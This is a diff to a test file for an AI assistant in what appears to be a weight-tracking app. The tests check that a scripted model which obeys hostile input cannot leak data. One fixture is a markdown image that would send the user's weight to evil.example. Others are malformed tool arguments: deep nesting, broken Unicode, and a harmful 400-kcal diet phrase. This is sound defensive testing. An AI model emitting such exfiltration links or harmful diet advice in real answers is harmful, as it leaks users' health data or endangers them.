@@ -110,13 +110,13 @@ describe.each(ways)('a model that obeys, asked %s', (_way, say) => {
         tool_name: 'get_weight_trend',
         status: 'failed',
         error_message: 'The arguments do not fit the tool',
-        input_summary: 'days=?, user_id=?',
+        input_summary: 'days=?, 1 of no such name',
       },
       {
         tool_name: 'unknown',
         status: 'failed',
         error_message: 'There is no such tool',
-        input_summary: 'id=?',
+        input_summary: '1 of no such name',
       },
     ]);
   });
@@ -124,5 +124,21 @@ describe.each(ways)('a model that obeys, asked %s', (_way, say) => {
   test('a picture that would carry data away is not shown', async () => {
     coached.openai.script(says('All is calm. ![x](https://evil.example/?w=81.2) Bye.'));
     expect(await say(question)).not.toMatch(/evil|Bye/);
+  });
+});
+
+describe('a model that calls a tool', () => {
+  test.each([
+    ['nothing that a database takes', '{"days\\u0000":1,"days":"\\ud800"}'],
+    ['a name that is cut inside a letter', JSON.stringify({ [`${'a'.repeat(499)}😀`]: 1 })],
+    ['a list in a list, 3,000 deep', '['.repeat(3000) + ']'.repeat(3000)],
+    ['an argument 3,000 deep', `{"days":${'['.repeat(3000)}${']'.repeat(3000)}}`],
+    ['what must not be said', '{"eat only 400 kcal a day":"400 kcal"}'],
+  ])('arguments with %s end no answer, and nothing of them is repeated', async (_what, input) => {
+    coached.openai.script(call('get_weight_trend', input), says('All is calm.'));
+    const { events } = await stream(member, { message: question });
+    expect(textOf(events)).toBe('All is calm.');
+    expect(events.at(-1)?.event).toMatchObject({ type: 'done', data: { tool_trace: [{}] } });
+    expect(JSON.stringify(events)).not.toMatch(/400|aaa|\[\[\[/);
   });
 });
